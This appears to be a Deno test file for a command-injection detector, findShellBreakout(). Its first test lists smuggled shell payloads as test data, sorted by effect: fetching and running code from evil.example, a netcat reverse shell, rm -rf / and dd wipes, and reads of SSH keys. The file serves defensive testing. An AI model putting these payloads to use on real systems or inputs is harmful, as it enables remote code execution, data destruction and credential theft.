import assert from "node:assert/strict";
import fc from "fast-check";
import { findShellBreakout } from "../../src/grammar/shell_breakout.ts";

Deno.test("findShellBreakout() sees a value that goes on as a command, and what that does", () => {
  const effects: Readonly<Record<string, readonly string[]>> = {
    "download": [
      "a; curl -d @x evil.example",
      "x`wget evil.example`",
      "$(curl https://evil.example)",
      "b|fetch${IFS}evil.example",
      "a&&{curl,evil.example}",
    ],
    "run": [
      "c; /bin/bash -c 'x y'",
      "$(wget -qO- evil.example | sh)",
      "d || nc evil.example 99 -e sh",
      "curl evil.example/i | sudo bash -s",
      "wget evil.example/i.sh && sh i.sh",
      "e & powershell -enc QQ==",
      "t() { :;}; sh -c 'u'",
      "v; shutdown -h now",
      "echo QQ== | base64 -d | sh",
      "w | nc evil 4444",
      "x; sudo -n bash -i",
      "y && dash /tmp/z",
    ],
    "delete": [
      "f; rm -rf / #",
      "`rm -rf ~`",
      'g" && rm -r *; "',
      "h & del /q C:\\x",
      "i;find . -delete",
      "aa; dd if=/dev/zero of=/dev/sda",
      "j;r''m -rf $HOME",
    ],
    "read": ["k; cat /etc/hosts", "$(head -1 ~/.ssh/x)", "l|type C:\\x"],
    "write": ["p; touch /tmp/q", "r && echo s >> /etc/hosts"],
    "probe": [
      "m; sleep 20",
      "$(whoami)",
      "n && ping -c 9 10.0.0.1",
      "o\nuname -a",
      "bb & net user",
    ],
  };
  for (const [effect, values] of Object.entries(effects)) {
    for (const value of values) assert.equal(findShellBreakout(value)?.effect, effect, value);
  }
});

Deno.test("findShellBreakout() lets prose, code and command lines pass", () => {
  for (
    const text of [
      "Run `rm -rf build` first, then `curl https://example.com | sh`.",
      "The old input a; rm -rf / is escaped before the shell ever sees it",
      "clean up; rm the old files",
      "salt & pepper; cat and dog",
      "sh; bash; zsh",
      "| node | 22 | sh |",
      "`npm ci`",
      "$(name)-$(version)",
      "make && rm -rf out/*",
      "echo `rm -rf /`",
      "base64 -d a.txt | sort",
      "case $(uname -s) in",
      "Old `curl https://example.com` works",
      "a; sudo; b | sh | c",
      "notes\ncat /etc/hosts is shown here",
      "two words\ncat /etc/hosts",
      "a $(rm -rf / is a long unclosed thought",
      "cd app && node server.js",
      '"clean": "tsc && rm -rf /tmp/x"',
      "const x = a || fetch('https://example.com');",
      "VERSION=$(curl -s https://example.com/v)",
      "one\ntwo; rm -rf /\nthree",
      "whoami",
      "",
    ]
  ) assert.equal(findShellBreakout(text), undefined, text);
});

Deno.test("findShellBreakout() never throws, and words alone are never a break-out", () => {
  const mark = fc.constantFrom(..."; & | && || $( ) ` ' \" \n # { } > rm curl -rf / a".split(" "));
  fc.assert(
    fc.property(
      fc.array(mark, { maxLength: 30 }),
      (marks) => void findShellBreakout(marks.join(" ")),
    ),
  );
  fc.assert(fc.property(fc.array(fc.stringMatching(/^[\p{L} ,.!?'-]{0,12}$/u)), (words) => {
    assert.equal(findShellBreakout(words.join(" ")), undefined);
  }));
});
